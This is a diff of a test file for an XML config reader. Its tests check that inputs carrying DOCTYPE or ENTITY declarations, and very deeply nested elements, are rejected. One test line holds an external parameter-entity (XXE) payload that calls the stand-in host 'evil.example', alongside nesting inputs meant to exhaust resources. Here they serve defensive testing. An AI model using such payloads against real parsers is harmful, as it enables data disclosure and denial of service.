@@ -124,6 +124,7 @@ describe('a file with declarations is refused whole', () => {
       'a parameter entity from elsewhere',
       `<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x"> %p;]>${good}`
     ],
+    ['a doctype alone', `<!DOCTYPE clientConfig>${good}`],
     ['a lower-case doctype', `<!doctype html>${good}`],
     ['a declaration further in', good.replace('<domain>', '<!ENTITY a "b"><domain>')]
   ])('%s', (_what, xml) => expect(read(xml)).toBeUndefined())
@@ -136,6 +137,8 @@ test('entities of its own making stay what they are', () => {
 
 test('elements within elements without end are no file', () => {
   expect(read('<clientConfig>'.repeat(5000))).toBeUndefined()
+  const deep = '<a>'.repeat(2000) + '</a>'.repeat(2000)
+  expect(read(autoconfigXml({ host, more: deep }))).toBeUndefined()
   expect(read(`${'<a>'.repeat(2000)}${autoconfigXml({ host })}${'</a>'.repeat(2000)}`)).toBeUndefined()
 })
 
